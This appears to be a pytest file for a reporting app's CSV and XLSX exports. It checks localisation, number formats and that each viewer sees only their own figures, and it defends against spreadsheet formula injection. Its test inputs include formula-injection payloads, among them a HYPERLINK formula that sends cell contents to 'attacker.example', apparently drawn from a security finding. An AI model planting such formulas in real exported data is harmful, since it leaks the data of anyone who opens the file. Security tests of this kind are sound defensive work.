"""Reports exported as CSV and XLSX: what a French (or English) spreadsheet program opens
without repair, holding the page's figures, only those of the viewer's scope."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from relais.apps.reporting import exports
from relais.apps.reporting.selectors import ReportRow
from relais.apps.reporting.stats import intervals_recompute
from relais.core.kpi import KpiSummary
from relais.core.spreadsheet import formula_safe
from tests.apps.conftest import World, logged_in
from tests.apps.reporting.reading import csv_rows, xlsx_rows
from tests.apps.routing.fixtures import orders_queue
from tests.apps.supervision.day import DAY, NOW, play

QUERY = f"?start={DAY}&end={DAY}&group_by=site_kind"


@pytest.fixture
def day(world: World) -> World:
    play(world, orders_queue(world))
    intervals_recompute(NOW - dt.timedelta(hours=12), NOW, now=NOW)
    return world


def _as(world: World, role: str, language: str) -> object:
    user = world.users[role]
    user.language = language
    user.save(update_fields=["language"])
    return logged_in(user)


def test_a_french_csv_has_semicolons_a_bom_french_headings_and_decimal_commas(day: World) -> None:
    client = _as(day, "director", "fr")

    response = client.get(f"/reports/export.csv{QUERY}")  # type: ignore[attr-defined]

    rows = csv_rows(response.content, separator=";")
    offshore = next(row for row in rows if row["Type de site"] == "Offshore")
    inshore = next(
        row for row in rows if row["Type de site"] != "Offshore" and "nshore" in row["Type de site"]
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert offshore["Jour"] == "10/03/2025"
    assert offshore["Répondus"] == "2"
    assert offshore["Niveau de service"] == "50,0 %"
    assert inshore["Durée moyenne de traitement (s)"] == "330"
    assert response.content.decode("utf-8-sig").splitlines()[0].count(";") == len(rows[0]) - 1


def test_an_english_csv_has_commas_english_headings_and_decimal_points(day: World) -> None:
    client = _as(day, "director", "en")

    response = client.get(f"/reports/export.csv{QUERY}")  # type: ignore[attr-defined]

    rows = csv_rows(response.content, separator=",")
    offshore = next(row for row in rows if row["Site kind"] == "Offshore")
    assert offshore["Day"] == "2025-03-10"
    assert offshore["Answered"] == "2"
    assert offshore["Service level"] == "50.0%"
    assert offshore["Average speed of answer (s)"] == "22"  # (30 + 15) / 2 = 22.5, rounded


def test_an_xlsx_stores_numbers_with_number_formats(day: World) -> None:
    client = _as(day, "director", "fr")

    response = client.get(f"/reports/export.xlsx{QUERY}")  # type: ignore[attr-defined]

    headings, rows, sheet = xlsx_rows(response.content)
    offshore = next(index for index, row in enumerate(rows) if row[1] == "Offshore")
    cell = {h: sheet.cell(offshore + 2, i + 1) for i, h in enumerate(headings)}
    assert cell["Jour"].value == dt.datetime(2025, 3, 10)
    assert cell["Jour"].number_format == "dd/mm/yyyy"
    assert (cell["Répondus"].value, cell["Répondus"].number_format) == (2, "0")
    assert (cell["Niveau de service"].value, cell["Niveau de service"].number_format) == (
        0.5,
        "0.0%",
    )
    asa = cell["Délai moyen de réponse (mm:ss)"]
    assert asa.value == dt.timedelta(seconds=22)  # openpyxl reads a [mm]:ss cell as a duration
    assert asa.number_format == "[mm]:ss"


def test_english_xlsx_headings_and_iso_dates() -> None:
    row = ReportRow(period=DAY, group=None, label="—", summary=KpiSummary(answered=1))

    content = exports.as_xlsx([row], layout=exports.Layout(period="week"), language="en")

    headings, rows, sheet = xlsx_rows(content)
    assert headings[:3] == ["Week (Monday)", "Offered", "Answered"]
    assert "Average handling time (mm:ss)" in headings
    assert sheet.cell(2, 1).number_format == "yyyy-mm-dd"
    assert rows[0][2] == 1


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x")', "+1", "-2", "@SUM(A1)", "\tA", "\rB"])
def test_a_name_that_looks_like_a_formula_is_text_in_both_exports(name: str) -> None:
    row = ReportRow(period=DAY, group="7", label=name, summary=KpiSummary(offered=1))
    layout = exports.Layout(group_by="team")

    text = exports.as_csv([row], layout=layout, language="fr")
    book = load_workbook(io.BytesIO(exports.as_xlsx([row], layout=layout, language="fr")))

    group = book.active.cell(2, 2)
    assert csv_rows(text, separator=";")[0]["Équipe"] == f"'{name}"
    # (XML reads a carriage return back as a line feed)
    assert group.value in (name, name.replace("\r", "\n"))
    assert (group.data_type, group.quotePrefix) == ("s", True)


def test_ordinary_names_are_left_as_they_are() -> None:
    assert formula_safe("Lille A") == "Lille A"
    assert formula_safe("Équipe 2 = bis") == "Équipe 2 = bis"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_partner_managers_export_holds_only_their_partners_figures(day: World, kind: str) -> None:
    client = _as(day, "partner_manager", "en")  # Atlas Contact: Rabat

    response = client.get(f"/reports/export.{kind}?start={DAY}&end={DAY}&group_by=site")  # type: ignore[attr-defined]

    if kind == "csv":
        rows = csv_rows(response.content, separator=",")
        assert [(row["Site"], row["Answered"]) for row in rows] == [("Rabat", "1")]
    else:
        headings, rows, _sheet = xlsx_rows(response.content)
        assert [(row[1], row[headings.index("Answered")]) for row in rows] == [("Rabat", 1)]


def test_a_site_named_like_a_formula_is_exported_as_text(day: World) -> None:
    """Issue 25, finding 4: `=HYPERLINK(...)` reached the spreadsheet as a formula."""
    link = '=HYPERLINK("http://attacker.example/?x="&A1,"Rabat")'
    day.rabat.name = link
    day.rabat.save(update_fields=["name"])
    client = _as(day, "partner_manager", "en")
    query = f"?start={DAY}&end={DAY}&group_by=site"

    csv_export = client.get(f"/reports/export.csv{query}")  # type: ignore[attr-defined]
    xlsx_export = client.get(f"/reports/export.xlsx{query}")  # type: ignore[attr-defined]

    assert [row["Site"] for row in csv_rows(csv_export.content, separator=",")] == [f"'{link}"]
    _headings, rows, sheet = xlsx_rows(xlsx_export.content)
    assert [row[1] for row in rows] == [link]
    assert (sheet.cell(2, 2).data_type, sheet.cell(2, 2).quotePrefix) == ("s", True)


def test_an_export_with_a_wrong_date_is_refused_with_the_reason(day: World) -> None:
    client = _as(day, "director", "fr")

    response = client.get("/reports/export.csv?start=31/02/2025&end=10/03/2025")  # type: ignore[attr-defined]

    assert response.status_code == 400
    assert "31/02/2025" in response.content.decode()
    assert "jj/mm/aaaa" in response.content.decode()
    assert response.content.decode().startswith("Le rapport ne peut pas être exporté")
